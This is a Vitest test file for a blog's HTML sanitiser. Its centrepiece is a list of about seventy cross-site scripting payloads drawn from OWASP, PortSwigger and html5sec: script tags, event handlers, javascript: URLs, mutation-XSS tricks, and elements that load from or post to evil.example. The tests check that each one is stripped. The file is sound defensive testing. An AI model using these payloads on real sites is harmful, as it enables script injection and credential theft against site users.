import { expect, test } from 'vitest';
import { pictureSizes } from '../blog-pictures.ts';
import { cleanHtml, cleanHtmlForFeed } from './clean-html.server.ts';
import { textOfHtml } from './html-text.server.ts';

const picture = '/blog/pictures/0f9c2f9a-6f5b-4c1e-9b42-0c1d2e3f4a5b';

// Attacks from published lists (OWASP, PortSwigger, html5sec), each in its usual form.
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/blog/pictures/x.webp" onerror="alert(1)">',
  `<img src="${picture}-1600.webp" onload=alert(1)>`,
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img srcset="https://evil.example/x 1x" src=https://evil.example/x.png>',
  `<img src="${picture}-1600.webp" srcset="https://evil.example/x.png 1x, javascript:alert(1) 2x" sizes="100vw&quot; onload=alert(1)">`,
  `<img src="${picture}-1600.webp" alt="&quot; onload=&quot;alert(1)" width="1 onload=alert(1)">`,
  `<img src="${picture}-1600.webp/../../../logout">`,
  `<img src="https://evil.example${picture}-1600.webp">`,
  `<img src="//evil.example${picture}-1600.webp">`,
  '<img src="/blog-pictures/../logout.svg">',
  '<img src="/blog-pictures/x.svg#<script>alert(1)</script>" alt=x>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="x" style="position:fixed;inset:0" onclick=alert(1) target=_blank>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  '<button onclick=alert(1)>x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  '<p id=main class=x data-x=1 contenteditable onbeforeinput=alert(1)>x</p>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/&Tab;/evil.example">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="/x" name=getElementById id=location rel=opener ping="https://evil.example" download>x</a>',
  '<option><style></option></select><b><img src onerror=alert(1)></style></option>',
  '<math><annotation-xml encoding="text/html"><img src onerror=alert(1)></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src onerror=alert(1)>">',
];
const known = /^<\/?(h[2-4]|p|[uo]l|li|blockquote|strong|b|em|i|u|s|a|br|hr|figure|figcaption|img)( [^<>]*)?>$/;
const attribute = / ([a-z]+)="([^"]*)"/g;

test.each(attacks)('D34 DATA-30 nothing of %s runs, frames, posts or loads', (attack) => {
  const clean = cleanHtml(`<p>before</p>${attack}<p>after</p>`);
  for (const [tag] of clean.matchAll(/<[^>]*>?/g)) {
    expect(tag).toMatch(known);
    for (const [, name = '', value = ''] of tag.matchAll(attribute)) {
      expect([
        'href',
        'rel',
        'src',
        'srcset',
        'sizes',
        'alt',
        'width',
        'height',
        'loading',
        'decoding',
        'start',
      ]).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:|\/(?!\/)|[a-z]+$)/);
      if (name === 'src') expect(value).toMatch(/^\/blog\/pictures\/[\da-f-]{36}-1600\.webp$/);
      if (name === 'srcset')
        expect(value).toMatch(/^\/blog\/pictures\/[^ ,]+ 480w(, \/blog\/pictures\/[^ ,]+ \d+w){2}$/);
      if (name === 'sizes') expect(value).toBe(pictureSizes);
      if (/^(width|height|start)$/.test(name)) expect(value).toMatch(/^\d{1,4}$/);
    }
  }
  // Clean HTML stays unchanged.
  expect(cleanHtml(clean)).toBe(clean);
});

test('BLOG-09 what a writer needs stays: headings, lists, links, quotations', () => {
  const html =
    '<h2>One</h2><p>A <strong>strong</strong> and <em>soft</em> word, a <a href="/pricing">link</a>.</p><ul><li>x</li></ul><ol start="3"><li>y</li></ol><blockquote><p>z</p></blockquote><hr />';
  expect(cleanHtml(html)).toBe(html);
  expect(cleanHtml('<h1>Top</h1><a href="https://www.cqc.org.uk/">CQC</a>')).toBe(
    '<h2>Top</h2><a href="https://www.cqc.org.uk/" rel="noopener">CQC</a>',
  );
});

test('an uploaded picture gets its widths, and keeps its size and what it shows; another one goes', () => {
  expect(
    cleanHtml(`<img src="${picture}-480.webp" alt="A &quot;garden&quot;" width="1600" height="900" class="x">`),
  ).toBe(
    `<img src="${picture}-1600.webp" srcset="${picture}-480.webp 480w, ${picture}-960.webp 960w, ${picture}-1600.webp 1600w" sizes="(min-width: 44rem) 42rem, 100vw" alt="A &quot;garden&quot;" width="1600" height="900" loading="lazy" decoding="async" />`,
  );
  for (const other of [
    'https://elsewhere.example/x.png',
    `https://elsewhere.example${picture}-1600.webp`,
    `//elsewhere.example${picture}-1600.webp`,
    `${picture}-1600.webp/../../../logout`,
    `${picture}-500.webp`,
  ])
    expect(cleanHtml(`<p>x<img src="${other}" alt="y"></p>`), other).toBe('<p>x</p>');
});

test('25 BLOG a feed has whole addresses and pictures in one size; words that look like attributes stay', () => {
  const html = `<a href="/pricing">a</a> <a href="#b">b</a> <a href="javascript:alert(1)">c</a> href="/d" srcset="e"`;
  const whole = `<a href="https://own.example/pricing">a</a> <a href="https://own.example/blog/x#b">b</a> <a>c</a> href="/d" srcset="e"`;
  expect(cleanHtmlForFeed(html, 'https://own.example/blog/x')).toBe(whole);
  expect(cleanHtmlForFeed(`<img src="${picture}-480.webp" alt="A">`, 'https://own.example/blog/x')).toBe(
    `<img src="https://own.example${picture}-1600.webp" alt="A" loading="lazy" decoding="async" />`,
  );
});

test('25 BLOG a picture without a description gets an empty one, and one that came with the site stays', () => {
  expect(cleanHtml(`<img src="${picture}-480.webp">`)).toContain(' alt="" ');
  expect(cleanHtml('<img src="/blog-pictures/care.svg" srcset="x 1x" width="800" height="450">')).toBe(
    '<img src="/blog-pictures/care.svg" alt="" width="800" height="450" loading="lazy" decoding="async" />',
  );
});

test('more than a post may hold is cut, and deep nesting takes no time', () => {
  const began = performance.now();
  expect(cleanHtml(`<p>${'x'.repeat(200_000)}</p>`).length).toBeLessThan(100_100);
  cleanHtml('<b>'.repeat(30_000));
  cleanHtml('<'.repeat(100_000));
  cleanHtml(`<a href="${'&#x'.repeat(30_000)}">`);
  expect(performance.now() - began).toBeLessThan(5_000);
  expect(cleanHtml('<b>'.repeat(30) + 'x').match(/<b>/g)).toHaveLength(20);
});

test('25 BLOG the words of some HTML as plain text, with a space where an element ended', () => {
  expect(textOfHtml('<h2>One</h2><p>two &amp; <b>three</b></p>')).toBe('One two & three');
  expect(textOfHtml('<p>&lt;b&gt; &quot;x&quot; &amp;lt; 1 < 2</p>')).toBe('<b> "x" &lt; 1 < 2');
});
